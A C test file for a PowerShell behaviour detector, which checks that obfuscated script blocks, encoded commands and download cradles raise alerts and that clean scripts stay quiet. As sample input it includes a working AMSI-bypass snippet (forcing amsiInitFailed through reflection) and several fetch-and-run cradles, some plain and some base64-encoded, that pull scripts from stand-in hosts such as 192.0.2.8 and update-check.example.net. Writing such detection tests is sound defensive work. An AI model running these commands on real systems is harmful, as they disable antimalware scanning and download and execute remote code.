/* test_powershell.c: the powershell detector with the shipped data/detect.conf: obfuscated
 * script blocks, encoded commands and download cradles fire; clean scripts, short blocks,
 * a download without running it, and a short -e argument stay quiet. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "behaviour.h"

static void block(det *x, const char *text)
{
    ts_event ev;
    win(&ev, "windows.microsoft-windows-powershell/operational", 4104, "WS1", T0);
    ev.channel = ts_str_c("Microsoft-Windows-PowerShell/Operational");
    set_fields(&ev, (const char *[]){"ScriptBlockText", text, NULL});
    feed(x, &ev);
}

static void start(det *x, const char *image, const char *cmd)
{
    ts_event ev;
    win(&ev, "windows.sysmon", 1, "WS1", T0);
    ev.process = ts_str_c(image);
    ev.command_line = ts_str_c(cmd);
    ev.parent_process = ts_str_c("C:\\Windows\\System32\\wscript.exe");
    feed(x, &ev);
}

/* A script of n characters made of a repeated piece. */
static const char *repeat(const char *piece, size_t n)
{
    static char buf[4096];
    size_t len = strlen(piece), at = 0;
    while (at + len < n && at + len < sizeof buf - 1) {
        memcpy(buf + at, piece, len);
        at += len;
    }
    buf[at] = 0;
    return buf;
}

int main(void)
{
    ts_config *cfg = NULL;
    CHECK(ts_config_load(TOCSIN_DATA_DIR "/detect.conf", &cfg, NULL, NULL) == TOCSIN_OK);
    det x;
    CHECK(det_open(&x, "powershell", cfg));

    /* Ticks inside words and strings rebuilt from pieces. */
    block(&x, repeat("$a = [Ref].Assembly.GetType('System.Man'+'agement.Auto'+'mation.Am'+'siUtils'); "
                     "$a.\"GetF`iel`d\"('amsiIn'+'itFailed','NonPublic,Static').SetValue($null,$true); ",
                     1200));
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1027.010,T1059.001") &&
          strstr(got[0]->title, "obfuscated"));
    drop_all();
    /* [char] casts and punctuation. */
    block(&x, repeat("&([char]73+[char]69+[char]88)(([char]39)+'x'); ", 600));
    CHECK_INT(n_got, 1);
    drop_all();
    /* Clean code, with PowerShell's own escapes ("`n", "`t"), and minified but plain code. */
    block(&x, repeat("Get-ChildItem -Path $env:TEMP -Filter *.log | ForEach-Object { Write-Host "
                     "\"found`t$($_.Name)`n\" } ",
                     2000));
    block(&x, repeat("function f($a){if($a -gt 1){return $a*f($a-1)};return 1};f(5);", 600));
    /* Short: not measured. */
    block(&x, "I`E`X('a'+'b')");
    CHECK_INT(n_got, 0);

    /* A download cradle, in a script block and on a command line; downloading alone is not one. */
    block(&x, "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.8/a.ps1')");
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1105,T1059.001"));
    drop_all();
    start(&x, "C:\\Windows\\System32\\cmd.exe", "cmd /c powershell -c \"iwr http://192.0.2.8/x.ps1 | iex\"");
    CHECK(n_got == 1 && strstr(got[0]->title, "cradle"));
    drop_all();
    block(&x,
          "(New-Object Net.WebClient).DownloadFile('https://example.org/tool.zip', \"$env:TEMP\\tool.zip\")");
    CHECK_INT(n_got, 0);

    /* Encoded commands: -enc and a prefix of -EncodedCommand, with a long token. */
    start(&x, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "powershell.exe -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAGEAQgBsAEUALgBQAFMA");
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1027.010,T1059.001") &&
          strstr(got[0]->title, "wscript.exe"));
    drop_all();
    start(&x, "C:\\Program Files\\PowerShell\\7\\PWSH.EXE",
          "pwsh -NoProfile -EncodedC JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAA");
    CHECK_INT(n_got, 1);
    drop_all();
    /* A short token, -ExecutionPolicy (an -e... that is not -EncodedCommand), another program. */
    start(&x, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -e SQBmACgA");
    start(&x, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "powershell -ExecutionPolicy Bypass -File "
          "C:\\scripts\\inventory_collection_for_the_asset_database.ps1");
    start(&x, "C:\\Windows\\System32\\certutil.exe",
          "certutil -e SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAGEAQgBsAEUALgBQAFMA out.txt");
    CHECK_INT(n_got, 0);

    /* An encoded command is read: its decoded text is in the title, and a cradle inside it
       to an outside host is an alert of its own that names it (outbound, severity 70). One to
       the organisation's own server (a one-label name, a name in the running host's domain)
       is said by the encoded command's alert (T1105 added), which names nobody outside and
       stays keyed by the script. */
    static const char ps[] = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    start(&x, ps,
          "powershell.exe -NoProfile -EncodedCommand "
          "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbw"
          "BhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdQBwAGQAYQB0AGUALQBjAGgAZQBjAGsALgBlAHgAYQBtAHAAbABl"
          "AC4AbgBlAHQALwBhAC4AcABzADEAJwApAA==");
    CHECK_INT(n_got, 2);
    CHECK(n_got == 2 && strstr(got[0]->title, "DownloadString('http://update-check.example.net/a.ps1')"));
    CHECK(n_got == 2 && strstr(got[1]->title, "cradle") && got[1]->severity == 70 && got[1]->remote_name &&
          !strcmp(got[1]->remote_name, "update-check.example.net") && got[1]->direction == TS_DIR_OUTBOUND);
    drop_all();
    start(&x, ps,
          "powershell.exe -NoProfile -EncodedCommand "
          "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbw"
          "BhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbABvAHkALQAwADEALwBzAGMAcgBpAHAAdABzAC8AaQBu"
          "AHYAZQBuAHQAbwByAHkALgBwAHMAMQAnACkA");
    CHECK(n_got == 1 && got[0]->severity == 50 && !got[0]->remote_name &&
          got[0]->direction != TS_DIR_OUTBOUND &&
          strstr(got[0]->title, "downloading from internal deploy-01") &&
          !strcmp(got[0]->techniques, "T1027.010,T1059.001,T1105") && strstr(got[0]->key, "|encoded|"));
    drop_all();
    ts_event ev;
    win(&ev, "windows.sysmon", 1, "ws-7.corp.example.com", T0);
    ev.process = ts_str_c(ps);
    ev.command_line = ts_str_c("powershell -enc "
                               "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0A"
                               "CkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbA"
                               "BvAHkALgBjAG8AcgBwAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AaQAuAHAAcwAxACcAKQA=");
    feed(&x, &ev);
    CHECK(n_got == 1 && !got[0]->remote_name &&
          strstr(got[0]->title, "from internal deploy.corp.example.com"));
    drop_all();
    /* Keyed by the script it runs: the same script again is the same alert, another is not. */
    start(&x, ps,
          "powershell.exe -EncodedCommand "
          "RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAtAE8AYgBqAGUAYwB0ACAAewAkAF8ALgBTAHQAYQB0AHUAcw"
          "AgAC0AZQBxACAAJwBTAHQAbwBwAHAAZQBkACcAfQAgAHwAIABSAGUAcwB0AGEAcgB0AC0AUwBlAHIAdgBpAGMAZQAgAC0AUABh"
          "AHMAcwBUAGgAcgB1AA==");
    start(&x, ps,
          "powershell.exe -EncodedCommand "
          "RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAtAE8AYgBqAGUAYwB0ACAAewAkAF8ALgBTAHQAYQB0AHUAcw"
          "AgAC0AZQBxACAAJwBTAHQAbwBwAHAAZQBkACcAfQAgAHwAIABSAGUAcwB0AGEAcgB0AC0AUwBlAHIAdgBpAGMAZQAgAC0AUABh"
          "AHMAcwBUAGgAcgB1AA==");
    start(&x, ps,
          "powershell.exe -EncodedCommand "
          "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbw"
          "BhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbABvAHkALQAwADEALwBzAGMAcgBpAHAAdABzAC8AaQBu"
          "AHYAZQBuAHQAbwByAHkALgBwAHMAMQAnACkA");
    CHECK(n_got == 3 && !strcmp(got[0]->key, got[1]->key) && strcmp(got[0]->key, got[2]->key) != 0);
    drop_all();

    det_close(&x);
    ts_config_free(cfg);
    return check_done("test_powershell");
}
